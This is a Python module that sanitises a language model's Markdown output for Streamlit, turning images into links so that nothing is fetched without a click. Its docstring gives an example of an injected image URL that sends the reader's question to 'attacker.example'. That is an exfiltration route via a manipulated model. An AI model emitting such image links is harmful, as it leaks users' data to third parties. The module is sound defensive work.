"""Making a model's Markdown harmless: nothing in it is fetched unless a reader clicks it.

``st.markdown`` renders no HTML, but it fetches images. A model that was made to write
``![](https://attacker.example/?<what the reader asked>)`` would send that away without a click. So
images become links. Code is left as it is only where it is sure to be code for the browser too;
where in doubt a backslash is put before the image, and may be seen.
"""

from __future__ import annotations

import re
import textwrap

__all__ = ["SafePieces", "safe"]

IMAGE = "!["
# At the beginning of a line these begin what this module does not follow: math, footnotes, HTML,
# containers. So does a carriage return that ends a line by itself.
BEYOND = re.compile(r"^[ \t]*(?:\$\$|\[\^|<|:::)|\r(?!\n)", re.MULTILINE)
# Only at the very beginning of a line: an indented fence may belong to a list, and end with it.
FENCE = re.compile(r"(`{3,}(?=[^`]*$)|~{3,})")
# In a paragraph with one of these, a backtick may be anything.
UNSURE = re.compile(r"[<$|{]|\\`|:\w[\w-]*\[")
CODE = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
LINKABLE = re.compile(
    r"(?:(?<=[\s(\[])|^)!\[(?P<alt>[^\[\]\\`]*)\](?P<rest>\((?P<url>https?://[^\s()<>\\`]+)\)|[(\[])"
)


def safe(markdown: str) -> str:
    """Return the text with its images as links: ``![alt](url)`` becomes ``[alt](url)``.

    An image without a text of its own shows its address. Where the form is unusual, only the ``!``
    loses its meaning. A text without images comes back as it is.
    """
    if IMAGE not in markdown:
        return markdown
    # As Streamlit will do it: the browser is sent the text without common indentation.
    markdown = textwrap.dedent(markdown).strip()
    fences = not BEYOND.search(markdown)
    parts: list[str] = []
    prose: list[str] = []
    opening = ""
    for line in markdown.split("\n"):
        fence = FENCE.match(line) if fences and not opening else None
        if not opening and not fence:
            prose.append(line)
            continue
        parts += _paragraphs(prose)
        prose = []
        parts.append(line)
        if fence:
            opening = fence[1]
        elif _closes(line, opening):
            opening = ""
    return "\n".join(parts + _paragraphs(prose))


class SafePieces:
    """The same for a text that only grows, without looking ahead: images lose their ``!``'s sense.

    What it gives may differ from :func:`safe` of the whole; both fetch nothing.
    """

    def __init__(self) -> None:
        self._text = ""
        self._held = ""

    def feed(self, piece: str) -> str:
        """Add text and return what can be shown of it."""
        text = self._held + piece
        # The next piece may begin with the bracket.
        cut = len(text) - 1 if text.endswith("!") else len(text)
        text, self._held = text[:cut], text[cut:]
        before, self._text = self._text, self._text + text
        if IMAGE not in text:
            return text
        shown = []
        for part in re.split(r"(!\[)", text):
            escape = part == IMAGE and not _in_fence(before) and not _escaped(before)
            shown.append(f"\\{part}" if escape else part)
            before += part
        return "".join(shown)

    def finish(self) -> str:
        """Return what was held back: nothing more will come."""
        held, self._held = self._held, ""
        return held


def _paragraphs(lines: list[str]) -> list[str]:
    """Make images in lines outside fenced code links."""
    if not lines:
        return []
    texts = re.split(r"(\n[ \t\r]*\n)", "\n".join(lines))
    return ["".join(_paragraph(text) if IMAGE in text else text for text in texts)]


def _paragraph(text: str) -> str:
    outside = CODE.sub("", text)
    # Code is trusted if each of its backticks has a partner in its own line, and if no bracket
    # outside could have taken one of them for an address.
    if UNSURE.search(text) or re.search(r"[`\[\]]", outside.replace(IMAGE, "")):
        # A backslash in what is code after all is seen; a lost "!" would not be.
        return _links(text, plainly="`" not in text)
    parts = []
    position = 0
    for code in CODE.finditer(text):
        parts += [_links(text[position : code.start()]), code[0]]
        position = code.end()
    return "".join([*parts, _links(text[position:])])


def _links(text: str, *, plainly: bool = True) -> str:
    """Make every image in a text a link, with its ``!`` shown if not ``plainly``."""
    parts = []
    position = 0
    while (start := text.find(IMAGE, position)) >= 0:
        parts.append(text[position:start])
        position = start + 1
        image = LINKABLE.match(text, start) if plainly else None
        if _escaped(text[:start]):
            parts.append("!")
        elif image and image["alt"].strip():
            continue
        elif image and image["url"]:
            parts.append(f"<{image['url']}>")
            position = image.end()
        else:
            parts.append("\\!")
    return "".join([*parts, text[position:]])


def _escaped(before: str) -> bool:
    return (len(before) - len(before.rstrip("\\"))) % 2 == 1


def _in_fence(text: str) -> bool:
    """Tell whether what follows ``text`` is sure to be in fenced code."""
    # What Streamlit strips from the beginning moves the first line.
    if BEYOND.search(text) or text != text.lstrip():
        return False
    opening = ""
    for line in text.split("\n")[:-1]:
        if opening:
            opening = "" if _closes(line, opening) else opening
        elif fence := FENCE.match(line):
            opening = fence[1]
    return bool(opening)


def _closes(line: str, opening: str) -> bool:
    return bool(re.fullmatch(rf" {{0,3}}{re.escape(opening[0])}{{{len(opening)},}}[ \t\r]*", line))
